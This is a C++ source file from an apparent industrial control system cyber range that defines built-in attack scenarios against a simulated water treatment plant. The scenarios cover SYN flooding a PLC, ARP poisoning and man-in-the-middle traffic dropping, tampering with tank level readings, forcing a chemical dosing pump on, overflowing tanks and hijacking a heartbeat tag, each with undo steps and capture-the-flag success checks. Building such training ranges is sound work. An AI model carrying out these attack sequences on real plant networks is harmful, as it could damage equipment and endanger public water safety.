#include "icsrange/attack/scenario.hpp"

namespace icsrange::attack {

const std::map<std::string, std::string>& builtin_scenarios() {
  static const std::map<std::string, std::string> table = {
      {"syn_flood_plc1", R"(scenario syn_flood_plc1
description Exhaust PLC1 half-open slots so the HMI loses its view of stage 1
requires network_tools
step wait 1
step syn_flood PLC1 100 30
step wait_until hmi.stale.LIT101 == 1 20
success hmi.stale.LIT101
undo wait 6
)"},
      {"l1_dos", R"(scenario l1_dos
description Poison every PLC's entry for the HMI and drop the diverted replies
requires network_tools
step wait 1
step arp_poison PLC1 HMI
step arp_poison PLC2 HMI
step arp_poison PLC3 HMI
step arp_poison PLC4 HMI
step mitm_drop * HMI
step wait_until hmi.stale.AIT401 == 1 20
success hmi.stale.LIT101
undo mitm_clear
undo arp_restore
undo wait 2
)"},
      {"tank_sensor_tamper", R"(scenario tank_sensor_tamper
description Offset the raw tank level inline between RIO1 and PLC1
requires network_tools physical_access
step wait 1
step mitm_modify RIO1 PLC1 LIT101 offset -0.2
step wait 15
success skew.PLC1.LIT101 < -0.15
undo mitm_clear
undo wait 2
)"},
      {"hmi_dosing_manipulation", R"(scenario hmi_dosing_manipulation
description Force the dosing pump on from the operator console
requires admin_accounts
step wait 1
step hmi_override P201 ON MANUAL
step wait_until plant.AIT201 > 3.5 120
step wait 3
success plant.AIT201 > 3.5
undo hmi_override P201 - AUTO
undo wait 2
)"},
      {"overflow_raw_tank", R"(scenario overflow_raw_tank
description Hold the inlet valve open with both transfer pumps stopped
requires network_tools
step tag_write PLC1 MV101:CMD OPEN
step tag_write PLC1 MV101:MODE MANUAL
step tag_write PLC1 P101:CMD OFF
step tag_write PLC1 P101:MODE MANUAL
step tag_write PLC1 P102:CMD OFF
step tag_write PLC1 P102:MODE MANUAL
step wait_until plant.overflow.T101 600
success plant.overflow.T101
undo tag_write PLC1 MV101:MODE AUTO
undo tag_write PLC1 P101:MODE AUTO
undo tag_write PLC1 P102:MODE AUTO
undo wait 2
)"},
      {"overflow_uf_tank", R"(scenario overflow_uf_tank
description Feed PLC1 a low UF level so it keeps filling the UF tank
requires network_tools
step arp_poison PLC3 PLC1
step mitm_modify PLC3 PLC1 LIT301 set 0.1
step tag_write PLC3 P301:CMD OFF
step tag_write PLC3 P301:MODE MANUAL
step wait_until plant.overflow.T301 900
success plant.overflow.T301
undo mitm_clear
undo arp_restore
undo tag_write PLC3 P301:MODE AUTO
undo wait 2
)"},
      {"keepalive_hijack", R"(scenario keepalive_hijack
description Cut the HMI off from PLC3 and hold the heartbeat at 3
requires network_tools
step wait 1
step arp_poison HMI PLC3
step mitm_drop HMI PLC3
step tag_write PLC3 HB 3
step assert_hold tag.PLC3.HB == 3 10
success tag.PLC3.HB == 3
undo mitm_clear
undo arp_restore
undo tag_write PLC3 HB 2
undo wait 2
)"},
      {"keepalive_write_only", R"(scenario keepalive_write_only
description Write the heartbeat without silencing the HMI
requires network_tools
step wait 1
step tag_write PLC3 HB 3
step assert_hold tag.PLC3.HB == 3 10
success tag.PLC3.HB == 3
undo tag_write PLC3 HB 2
)"},
      {"passive_mitm_plc2_plc3", R"(scenario passive_mitm_plc2_plc3
description Sit between PLC2 and PLC3 and record what they exchange
requires network_tools
step passive_mitm PLC2 PLC3 5
success transcript contains CTF{
)"},
      {"read_readme", R"(scenario read_readme
description Read the README tag on PLC2
requires network_tools
step tag_read PLC2 README:2
success readout contains CTF{
)"},
  };
  return table;
}

}  // namespace icsrange::attack
